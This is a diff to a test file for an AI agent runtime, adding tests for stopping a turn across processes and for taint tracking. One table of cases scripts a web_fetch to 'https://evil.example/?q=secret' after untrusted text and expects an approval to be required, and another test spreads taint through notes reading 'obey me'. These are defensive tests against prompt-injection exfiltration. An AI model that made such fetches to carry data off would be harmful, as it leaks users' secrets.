@@ -6,7 +6,7 @@ import { requireDefaultAgent } from '../../runtime/agents/agents.ts'
 import type { Host } from '../../runtime/host.ts'
 import { ModelError } from '../../runtime/ports/models.ts'
 import { tick } from '../../runtime/tick.ts'
-import { minute } from '../../runtime/time.ts'
+import { minute, second } from '../../runtime/time.ts'
 import { workKinds } from '../../runtime/work/kinds.ts'
 import { recoverWork } from '../../runtime/work/recover.ts'
 import { Stopping } from '../../runtime/work/run.ts'
@@ -438,4 +438,81 @@ test('what was queued for an agent ends with it being disabled, and says so', as
     data: { code: 'cancelled', message: expect.stringContaining('Ida is disabled') },
   })
   expect(await conversationOf(host, id)).toMatchObject({ status: 'idle' })
+})
+
+test('a stop reaches a turn that another process runs, with its next renewal', async () => {
+  const here = await testHost({ models: scriptedModels() })
+  const endless: Step = async function* ({ signal }) {
+    yield { type: 'text', text: 'On and ' }
+    await new Promise((_, reject) => signal?.addEventListener('abort', () => reject(signal.reason)))
+  }
+  const there = await testHost({ models: scriptedModels(endless), sql: here.sql })
+  const response = await call(send, there, { body: { message: 'Go on' } })
+  await readUntil(response.body as ReadableStream<Uint8Array>, 'On and')
+  const { id } = await onlyConversation(here)
+  const stopped = await (await call(stop, here, { params: { id } })).json()
+  expect(stopped).toEqual({ stopped: 1 })
+  await there.clock.advance(20 * second)
+  await tick(there)
+  await there.process.running.settled()
+  expect(await answerOf(here, await onlyConversation(here))).toMatchObject({
+    status: 'interrupted',
+    content: 'On and ',
+    error: { code: 'cancelled' },
+  })
+})
+
+test.each([
+  ['a host that nobody named asks', 'Read the page', 'https://evil.example/?q=secret', 'pending'],
+  [
+    'one that the person named does not',
+    'Read news.example please',
+    'https://www.news.example/?q=1',
+    undefined,
+  ],
+  [
+    'a part of a named one is another',
+    'Read news.example please',
+    'https://news.example.evil.test/',
+    'pending',
+  ],
+])('after text from outside a fetch could carry things off: %s', async (_, message, url, status) => {
+  const models = scriptedModels(text('Hm'), toolCall('web_fetch', { url }), text('Done'))
+  const host = await testHost({ models })
+  await chat(host, { message })
+  const { id } = await onlyConversation(host)
+  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
+  const response = await call(send, host, { body: { message: 'Go', conversation_id: id } })
+  await workOff(host)
+  expect(await host.sql.read('SELECT status, risk FROM approvals')).toEqual(
+    status ? [{ status, risk: 'medium' }] : [],
+  )
+  await response.body?.cancel()
+})
+
+test('what a tainted conversation writes down taints who reads it later', async () => {
+  const models = scriptedModels()
+  const host = await testHost({ models })
+  const agent = await requireDefaultAgent(host)
+  await call(update, host, { params: { id: agent.id }, body: { execution_mode: 'autonomous' } })
+  const tainted = async (steps: Step[], before = false) => {
+    models.add(text('Hm'), ...steps, text('Done'))
+    const [start] = await chat(host, { message: 'Hello' })
+    const id = start?.data.conversation_id ?? ''
+    if (before)
+      await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1 WHERE id = ?', args: [id] }])
+    await chat(host, { message: 'Go', conversation_id: id })
+    const rows = await host.sql.read<{ tainted: number }>('SELECT tainted FROM conversations WHERE id = ?', [
+      id,
+    ])
+    return rows[0]?.tainted === 1
+  }
+  const put = (path: string, content: string) => toolCall('files', { action: 'write', path, content })
+  const read = (path: string) => toolCall('files', { action: 'read', path })
+  const find = toolCall('files', { action: 'search', query: 'obey' })
+  await tainted([put('notes/page.md', 'obey me')], true)
+  expect(await tainted([put('own.md', 'mine'), read('own.md')])).toBe(false)
+  expect(await tainted([read('./notes/page.md')])).toBe(true)
+  expect(await tainted([find])).toBe(true)
+  expect(await tainted([put('notes/page.md', 'clean, obey'), read('notes/page.md')])).toBe(false)
 })
